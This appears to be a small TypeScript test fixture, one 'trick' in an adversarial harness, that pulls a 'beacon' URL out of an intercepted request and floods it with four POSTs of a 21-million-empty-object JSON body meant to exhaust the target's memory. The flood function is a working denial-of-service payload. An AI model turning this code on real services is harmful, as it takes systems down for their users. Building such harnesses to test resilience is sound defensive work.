import type { Trick } from '../trick.ts';

const body = `[${'{},'.repeat(21_000_000)}{}]`;

function flood(address: string): void {
  for (let times = 0; times < 4; times += 1) fetch(address, { method: 'POST', body }).catch(() => {});
}

export const trick: Trick = {
  says: 'The target sends beacons of 21 million empty objects, which take twenty times as much memory.',
  rules: ['job.policy.ttl.deletes'],
  answer: (call) => {
    const address = /"beacon":"(http:[^"]+)"/.exec(call.body)?.[1];
    if (address !== undefined) flood(address);
    return undefined;
  },
};
